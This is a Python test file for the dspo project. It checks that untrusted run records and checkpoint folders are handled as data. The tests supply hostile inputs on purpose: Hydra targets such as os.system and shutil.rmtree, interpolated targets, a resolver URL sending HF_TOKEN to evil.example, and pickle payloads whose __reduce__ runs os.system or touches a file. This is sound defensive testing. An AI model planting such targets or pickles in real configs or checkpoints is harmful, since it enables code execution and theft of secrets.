"""Issue 39 (1): what comes from elsewhere is data. A run record names only the targets dspo ships (or the command
line's `imports=`), at any depth; it never turns `trust_remote_code` on; folder checkpoints of another user are not
unpickled. (The planted model folder end to end: tests/eval/test_cli.py.)"""

from __future__ import annotations

import copy
import os
import pickle
import re
import sys
from pathlib import Path

import pytest
from omegaconf import OmegaConf

import dspo.runs.trust
from dspo.runs.record import adopt
from dspo.runs.trust import (
    THIRD_PARTY_TARGETS,
    ForeignCheckpointError,
    UntrustedRecordError,
    allowed_target,
    check_checkpoint_owner,
    check_targets,
)
from dspo.testing import compose_config
from dspo.train import CONF_DIR

EVAL_SECTIONS = ("rollout.agent", "rollout.engine", "retriever", "env", "data", "eval.batch_size")


def test_the_third_party_targets_are_those_of_conf() -> None:
    named = set()
    for path in sorted(Path(CONF_DIR).rglob("*.yaml")):
        if path.relative_to(CONF_DIR).parts[0] == "hydra":  # launchers and sweepers: Hydra builds them at launch; no
            continue  # record holds a `hydra` section (dspo.runs.record), so they are never targets from elsewhere
        named |= set(re.findall(r"_target_:\s*([\w.]+)", path.read_text()))
    assert {t for t in named if not t.startswith("dspo.")} == THIRD_PARTY_TARGETS
    assert all(allowed_target(t) for t in named)  # every target dspo's own configs name passes


@pytest.mark.parametrize(
    "target",
    [
        "os.system", "builtins.eval", "subprocess.run", "dspo.runs.record.json.loads", "dspo.runs.trust.os.system",
        "dspo",
        3, None,
        "dspo.testing.run_to_exit",  # runs any command: test helpers are not shipped targets
        "dspo.testing.PidEnvironment",  # a class, but a test helper (it writes a file)
        "dspo.runs.trust.import_modules",  # a dspo function that dspo's conf/ does not name (it imports any module)
        "dspo.runs.record.write_record",  # writes where it is told
    ],
)  # fmt: skip
def test_what_dspo_does_not_ship_is_refused(target) -> None:
    assert not allowed_target(target)  # `dspo.runs.trust.os.system` is os.system, reached through dspo's namespace


def test_the_modules_the_user_imports_are_allowed(tmp_path, monkeypatch) -> None:
    (tmp_path / "my_plugin_39.py").write_text("import os\n\nclass Tool:\n    pass\n")
    monkeypatch.syspath_prepend(str(tmp_path))
    assert allowed_target("my_plugin_39.Tool", ["my_plugin_39"]) and not allowed_target("my_plugin_39.Tool")
    assert not allowed_target("my_plugin_39.os.system", ["my_plugin_39"])
    monkeypatch.delitem(sys.modules, "my_plugin_39", raising=False)


@pytest.mark.parametrize(
    ("section", "key"),
    [
        ({"_target_": "dspo.env.Environment", "tools": {"search": {"_target_": "os.system"}}}, "env.tools.search"),
        ({"_target_": "dspo.env.Environment", "_args_": [{"_target_": "os.system", "_partial_": 1}]}, "env._args_.0"),
        ({"_target_": "dspo.env.Environment", "reward": {"x": [[{"_target_": "os.system"}]]}}, "env.reward.x.0.0"),
    ],
)
def test_targets_are_checked_at_any_depth(section, key) -> None:
    with pytest.raises(UntrustedRecordError, match=re.escape(f"dspo_run.json: {key}._target_='os.system' is not")):
        check_targets(section, "env", (), lambda key: False, "dspo_run.json")


def test_a_refused_record_changes_nothing_and_says_how_to_allow_it(record) -> None:
    planted = copy.deepcopy(record)
    planted["config"]["retriever"]["_target_"] = "shutil.rmtree"
    cfg = compose_config("eval", ["model.path=/m"])
    before = OmegaConf.to_yaml(cfg)
    with pytest.raises(UntrustedRecordError) as error:
        adopt(cfg, planted, ["model.path=/m"], "/m/dspo_run.json", EVAL_SECTIONS)
    assert OmegaConf.to_yaml(cfg) == before
    message = str(error.value)
    assert message.startswith("/m/dspo_run.json: retriever._target_='shutil.rmtree' is not a target dspo ships")
    assert "imports=[shutil]" in message and "set retriever._target_=... (or the whole retriever=...)" in message
    # allowed explicitly: the section from the command line, or the module imported by the user
    adopt(compose_config("eval", ["retriever=bm25"]), planted, ["retriever=bm25"], "/m/dspo_run.json", EVAL_SECTIONS)
    adopt(compose_config("eval", []), planted, [], "/m/dspo_run.json", EVAL_SECTIONS, imports=["shutil"])


def test_an_engine_target_set_on_the_command_line_is_the_users(record) -> None:
    planted = copy.deepcopy(record)
    planted["config"]["rollout"]["engine"]["_target_"] = "os.system"
    overrides = ["rollout.engine._target_=dspo.engines.HFEngine"]
    cfg = compose_config("eval", overrides)
    adopt(cfg, planted, overrides, "/m/dspo_run.json", EVAL_SECTIONS)
    assert cfg.rollout.engine._target_ == "dspo.engines.HFEngine"


def test_a_record_never_turns_trust_remote_code_on(record) -> None:
    planted = copy.deepcopy(record)
    planted["config"]["rollout"]["engine"]["trust_remote_code"] = True
    cfg = compose_config("eval", [])
    lines = adopt(cfg, planted, [], "/m/dspo_run.json", EVAL_SECTIONS)
    assert cfg.rollout.engine.trust_remote_code is False
    (warning,) = [line for line in lines if "trust_remote_code" in line]
    assert warning.startswith("WARNING: rollout.engine.trust_remote_code=true in /m/dspo_run.json was not adopted")
    assert "pass rollout.engine.trust_remote_code=true on the command line" in warning
    assert planted["config"]["rollout"]["engine"]["trust_remote_code"] is True  # the record itself is not changed
    overrides = ["rollout.engine.trust_remote_code=true"]
    cfg = compose_config("eval", overrides)
    lines = adopt(cfg, planted, overrides, "/m/dspo_run.json", EVAL_SECTIONS)
    assert cfg.rollout.engine.trust_remote_code is True and not [line for line in lines if "trust_remote" in line]


def test_folder_checkpoints_of_another_user_need_an_explicit_opt_in(tmp_path, monkeypatch) -> None:
    import torch
    import torch.distributed.checkpoint as dcp

    folder = tmp_path / "last.ckpt"
    dcp.save({"w": torch.ones(2), "step": 3}, checkpoint_id=str(folder), no_dist=True)
    (tmp_path / "file.ckpt").write_bytes(b"weights")
    check_checkpoint_owner(folder, "ckpt_path")  # the user's own
    monkeypatch.setattr(dspo.runs.trust, "_owner", lambda path: os.getuid() + 1)
    with pytest.raises(ForeignCheckpointError, match=r"ckpt_path=.*belongs to another user .*allow_foreign_checkpoint"):
        check_checkpoint_owner(folder, "ckpt_path")
    check_checkpoint_owner(folder, "ckpt_path", allow_foreign=True)
    check_checkpoint_owner(tmp_path / "file.ckpt", "ckpt_path")  # a file loads weights_only=True: no rule
    # the opt-in is about the owner only: the metadata is still read as data
    (folder / ".metadata").write_bytes(pickle.dumps(_Planted()))
    with pytest.raises(ForeignCheckpointError, match=r"its .metadata is not a torch checkpoint's metadata"):
        check_checkpoint_owner(folder, "ckpt_path", allow_foreign=True)


def test_resuming_from_a_foreign_folder_checkpoint_is_refused(tmp_path, monkeypatch) -> None:
    from dspo.runs.resume import resolve_ckpt_path

    folder = tmp_path / "last.ckpt"
    folder.mkdir()
    (folder / ".metadata").write_bytes(b"a pickle")
    monkeypatch.setattr(dspo.runs.trust, "_owner", lambda path: os.getuid() + 1)
    cfg = OmegaConf.create({"ckpt_path": str(folder), "allow_foreign_checkpoint": False})
    with pytest.raises(ForeignCheckpointError, match="allow_foreign_checkpoint=true"):
        resolve_ckpt_path(cfg)


@pytest.mark.parametrize(
    "value",
    [
        "${oc.create:{_target_: os.system, _args_: [id]}}",  # builds a node with a target after the check
        "http://evil.example/${oc.env:HF_TOKEN}",  # reads the user's secrets
        "${oc.select:a,${oc.env:HOME}}",  # a resolver inside an allowed one
        "${dspo.data_dir:}",
    ],
)
def test_a_record_value_that_calls_a_resolver_is_refused(value) -> None:
    section = {"_target_": "dspo.env.Environment", "reward": {"url": value}}
    with pytest.raises(UntrustedRecordError, match=r"env.reward.url=.* calls a resolver"):
        check_targets(section, "env", (), lambda key: False, "dspo_run.json")


def test_references_to_other_keys_stay_allowed_and_tuples_are_walked() -> None:
    refs = {"_target_": "dspo.env.SearchTool", "topk": "${rollout.agent.topk}", "seed": "${oc.select:seed,0}"}
    check_targets(refs, "env", (), lambda key: False, "dspo_run.json")
    hidden = {"_target_": "dspo.env.Environment", "reward": ({"_target_": "os.system"},)}  # a checkpoint's tuple
    with pytest.raises(UntrustedRecordError, match=r"env.reward.0._target_='os.system'"):
        check_targets(hidden, "env", (), lambda key: False, "dspo.ckpt")


@pytest.mark.parametrize("override", ["rollout.agent={max_turns:3}", "rollout.agent.extra.deep=1"])
def test_setting_part_of_the_agent_does_not_exempt_the_records_agent(record, override) -> None:
    """The agent section is merged key by key: the record's keys the command line does not set are still adopted, so
    they are still checked (a whole-section or a nested override used to switch the check off)."""
    planted = copy.deepcopy(record)
    planted["config"]["rollout"]["agent"]["extra"] = {"_target_": "os.system"}
    cfg = compose_config("eval", [])
    with pytest.raises(UntrustedRecordError, match="rollout.agent.extra._target_='os.system'"):
        adopt(cfg, planted, [override], "/m/dspo_run.json", EVAL_SECTIONS)


def test_a_records_env_agent_is_code_and_checked_like_a_target(tmp_path, monkeypatch) -> None:
    """`env.agent` names a function the endpoint agent imports and runs: a record may name it only when the command
    line imports its module (or sets env.agent itself)."""
    section = {"_target_": "dspo.env.Environment", "agent": "os.system"}
    with pytest.raises(UntrustedRecordError, match=r"env\.agent='os\.system'"):
        check_targets(section, "env", (), lambda key: False, "dspo_run.json")
    check_targets(section, "env", (), lambda key: key == "env.agent", "dspo_run.json")  # the user's own setting
    (tmp_path / "my_agents.py").write_text("async def agent(client, item, tools):\n    return None\n")
    monkeypatch.syspath_prepend(str(tmp_path))
    mine = {"_target_": "dspo.env.Environment", "agent": "my_agents.agent"}
    with pytest.raises(UntrustedRecordError, match=r"imports=\[my_agents\]"):
        check_targets(mine, "env", (), lambda key: False, "dspo_run.json")
    check_targets(mine, "env", ("my_agents",), lambda key: False, "dspo_run.json")
    check_targets({"_target_": "dspo.env.Environment", "agent": None}, "env", (), lambda key: False, "dspo_run.json")


# ---------------------------------------------------------------- issue 53 (1): names checked as Hydra would build them
@pytest.mark.parametrize(
    ("section", "key"),
    [
        ({"_target_": "dspo.${oc.select:nope,runs.trust.os.system}"}, "retriever._target_"),  # the review's, verbatim
        ({"_target_": "dspo.${retriever.index}", "index": "runs.trust.os.system"}, "retriever._target_"),
        (
            {
                "_target_": "dspo.${oc.select:x,runs.checkpoint_files.torch.load}",
                "_args_": ["<folder>/extra.pt"],
                "weights_only": False,
            },
            "retriever._target_",
        ),
        ({"_target_": "dspo.search.Retriever", "x": {"_target_": "${retriever.index}"}}, "retriever.x._target_"),
    ],
)
def test_an_interpolated_target_is_refused(section, key) -> None:
    """Before, the check read `dspo.${...}` as a name under dspo, `get_object` failed on it and the check passed:
    Hydra then built what the interpolation resolved to (`dspo.runs.trust.os.system` is `os.system`)."""
    with pytest.raises(UntrustedRecordError, match=re.escape(f"dspo_run.json: {key}=") + ".* is interpolated"):
        check_targets(section, "retriever", (), lambda key: False, "dspo_run.json")


def test_an_interpolated_env_agent_and_a_records_imports_are_refused() -> None:
    agent = {"_target_": "dspo.env.Environment", "agent": "${oc.select:x,os.system}"}
    with pytest.raises(UntrustedRecordError, match=r"env\.agent=.* is interpolated"):
        check_targets(agent, "env", (), lambda key: False, "dspo_run.json")
    planted = {"_target_": "dspo.env.Environment", "imports": ["my_evil"]}
    with pytest.raises(UntrustedRecordError, match=r"env\.imports=\['my_evil'\] names modules to import"):
        check_targets(planted, "env", (), lambda key: False, "dspo_run.json")


@pytest.mark.parametrize("target", ["dspo.no_such_module.Thing", "dspo.env.NoSuchClass", "dspo.${x}"])
def test_a_name_that_does_not_resolve_is_refused(target) -> None:
    """Fail closed: before, a name `get_object` could not find passed (`except: return True`)."""
    assert not allowed_target(target)


def test_the_planted_torch_load_record_is_refused_by_adopt(record) -> None:
    planted = copy.deepcopy(record)
    planted["config"]["retriever"] = {
        "_target_": "dspo.${oc.select:x,runs.checkpoint_files.torch.load}",
        "_args_": ["/m/extra.pt"],
        "weights_only": False,
    }
    cfg = compose_config("eval", ["model.path=/m"])
    before = OmegaConf.to_yaml(cfg)
    with pytest.raises(UntrustedRecordError, match=r"retriever\._target_=.* is interpolated"):
        adopt(cfg, planted, ["model.path=/m"], "/m/dspo_run.json", EVAL_SECTIONS)
    assert OmegaConf.to_yaml(cfg) == before


class _Planted:
    def __reduce__(self):
        return (os.system, ("true",))


def test_a_planted_metadata_pickle_is_refused_even_in_the_users_own_folder(tmp_path) -> None:
    """Issue 53 (5): a downloaded or untarred folder is the user's own; its `.metadata` used to reach torch's plain
    `pickle.load`. Now it is read with torch's metadata types only; a real checkpoint's passes."""
    import pickle

    import torch
    import torch.distributed.checkpoint as dcp

    planted = tmp_path / "planted.ckpt"
    planted.mkdir()
    (planted / ".metadata").write_bytes(pickle.dumps(_Planted()))
    with pytest.raises(ForeignCheckpointError, match=r"ckpt_path=.*planted.ckpt: its .metadata is not .*posix.system"):
        check_checkpoint_owner(planted, "ckpt_path")
    real = tmp_path / "real.ckpt"
    dcp.save({"w": torch.zeros(3, dtype=torch.bfloat16), "step": 3}, checkpoint_id=str(real), no_dist=True)
    check_checkpoint_owner(real, "ckpt_path")


class _PlantedItem:
    """A non-tensor checkpoint item whose unpickling would run code (touches a file)."""

    def __init__(self, marker: str) -> None:
        self.marker = marker

    def __reduce__(self):
        from pathlib import Path

        return (Path.touch, (Path(self.marker),))


def test_a_planted_non_tensor_item_of_a_folder_checkpoint_runs_nothing(tmp_path):
    """Issue 53 (5): torch's load planner unpickles a folder checkpoint's non-tensor items with weights_only=False;
    inside `safe_byte_items` (dspo's FSDP2 resume and dspo-eval's reader) they load as weights_only=True first: plain
    values pass, a planted pickle is refused and runs nothing."""

    import torch
    import torch.distributed.checkpoint as dcp

    from dspo.runs.trust import safe_byte_items

    marker = tmp_path / "ran"
    folder = tmp_path / "ckpt"
    dcp.save({"w": torch.ones(2), "step": [3, "a"], "planted": _PlantedItem(str(marker))}, checkpoint_id=folder)
    plain = {"w": torch.zeros(2), "step": None}
    with safe_byte_items():
        dcp.load(plain, checkpoint_id=folder)
    assert plain["step"] == [3, "a"] and torch.equal(plain["w"], torch.ones(2))
    with pytest.raises(BaseException) as refused, safe_byte_items():  # torch wraps it: CheckpointException
        dcp.load({"planted": None}, checkpoint_id=folder)
    assert "UnpicklingError" in repr(refused.value) or "Unsupported global" in str(refused.value), refused.value
    assert not marker.exists()
    dcp.load({"planted": None}, checkpoint_id=folder)  # torch's own planner, as before: the item ran
    assert marker.exists()


# ---------------------------------------------------------------- issue 70 (1): what a real DCP save holds still loads
def _real_state() -> dict:
    """What a dspo checkpoint folder holds: tensors of several dtypes, an AdamW state, Lightning-like plain items."""
    import torch

    model = torch.nn.Sequential(torch.nn.Linear(4, 3), torch.nn.LayerNorm(3)).to(torch.bfloat16)
    optimizer = torch.optim.AdamW(model.parameters(), lr=1e-3)
    model(torch.randn(2, 4, dtype=torch.bfloat16)).float().sum().backward()
    optimizer.step()
    return {
        "state_dict": {**model.state_dict(), "f32": torch.arange(6.0).view(2, 3), "i64": torch.arange(4)},
        "optimizer": optimizer.state_dict(),
        "flags": torch.tensor([True, False]),
        "half": torch.ones(3, dtype=torch.float16),
        "global_step": 7,
        "loops": {"fit_loop": {"epoch": 1, "batches": [1, 2, 3], "name": "fit", "none": None, "nested": {"x": [{}]}}},
        "lr": 2.5e-4,
        "note": None,
    }


def _equal(a, b) -> bool:
    import torch

    if isinstance(a, torch.Tensor):
        return isinstance(b, torch.Tensor) and a.dtype == b.dtype and torch.equal(a, b)
    if isinstance(a, dict):
        return isinstance(b, dict) and a.keys() == b.keys() and all(_equal(a[k], b[k]) for k in a)
    if isinstance(a, (list, tuple)):
        return len(a) == len(b) and all(_equal(x, y) for x, y in zip(a, b, strict=True))
    return a == b


def _empty_like(value):
    import torch

    if isinstance(value, torch.Tensor):
        return torch.zeros_like(value)
    if isinstance(value, dict):
        return {k: _empty_like(v) for k, v in value.items()}
    if isinstance(value, list):
        return [_empty_like(v) for v in value]
    return None  # a non-tensor item: torch's loader puts what the checkpoint holds


def test_a_folder_torch_saved_passes_the_gate_and_loads_equal(tmp_path) -> None:
    """Issue 70 (1): the gate reads `.metadata` with torch's weights-only unpickler and torch's metadata classes only;
    a folder written by torch's own DCP save (bf16/fp32/fp16/int64/bool tensors, an AdamW state, ints, floats, lists,
    dicts, strings, None) passes it, torch's reader inside `folder_checkpoint_as_data` reads the same metadata as its
    plain `pickle.load`, and the whole state loads back equal."""
    import torch.distributed.checkpoint as dcp
    from torch.distributed.checkpoint import FileSystemReader

    from dspo.runs.trust import check_metadata, folder_checkpoint_as_data

    state = _real_state()
    folder = tmp_path / "real.ckpt"
    dcp.save(state, checkpoint_id=str(folder), no_dist=True)
    check_checkpoint_owner(folder, "ckpt_path")
    metadata = check_metadata(folder / ".metadata", "ckpt_path")
    with open(folder / ".metadata", "rb") as handle:
        assert metadata == pickle.load(handle)  # the user's own trusted folder: plain pickle as the reference
    with folder_checkpoint_as_data():
        read = FileSystemReader(str(folder)).read_metadata()
        loaded = _empty_like(state)
        dcp.load(loaded, checkpoint_id=str(folder), no_dist=True)
    plain = FileSystemReader(str(folder)).read_metadata()
    assert read.storage_meta.load_id and read.storage_meta.load_id != plain.storage_meta.load_id  # set per reader
    read.storage_meta.load_id = plain.storage_meta.load_id
    assert read == plain
    assert _equal(state, loaded), loaded


def test_the_context_manager_puts_torchs_readers_back_and_keeps_its_old_name(tmp_path) -> None:
    from torch.distributed.checkpoint import FileSystemReader
    from torch.distributed.checkpoint.default_planner import DefaultLoadPlanner

    from dspo.runs.trust import folder_checkpoint_as_data, safe_byte_items

    before = FileSystemReader.read_metadata, DefaultLoadPlanner.load_bytes
    (tmp_path / ".metadata").write_bytes(pickle.dumps(_Planted()))
    with (
        pytest.raises(ForeignCheckpointError, match=r"^guard=.*: its .metadata is not"),
        folder_checkpoint_as_data("guard"),
    ):
        assert (FileSystemReader.read_metadata, DefaultLoadPlanner.load_bytes) != before
        FileSystemReader(str(tmp_path)).read_metadata()
    assert (FileSystemReader.read_metadata, DefaultLoadPlanner.load_bytes) == before
    assert safe_byte_items is folder_checkpoint_as_data


def test_a_torch_without_the_weights_only_unpickler_refuses_the_folder(tmp_path, monkeypatch) -> None:
    """The private API dspo reads `.metadata` with, gone from a future torch: a clear refusal, never plain pickle."""
    import torch.distributed.checkpoint as dcp

    from dspo.runs.trust import check_metadata

    folder = tmp_path / "real.ckpt"
    dcp.save({"w": _real_state()["half"]}, checkpoint_id=str(folder), no_dist=True)
    monkeypatch.setitem(sys.modules, "torch._weights_only_unpickler", None)  # `import` of it raises ImportError
    monkeypatch.setattr(pickle, "load", lambda *args, **kwargs: pytest.fail("read with plain pickle"))
    monkeypatch.setattr(pickle, "Unpickler", lambda *args, **kwargs: pytest.fail("read with plain pickle"))
    with pytest.raises(ForeignCheckpointError, match=r"ckpt_path=.*real.ckpt: this torch \(.*\) lacks what dspo reads"):
        check_metadata(folder / ".metadata", "ckpt_path")
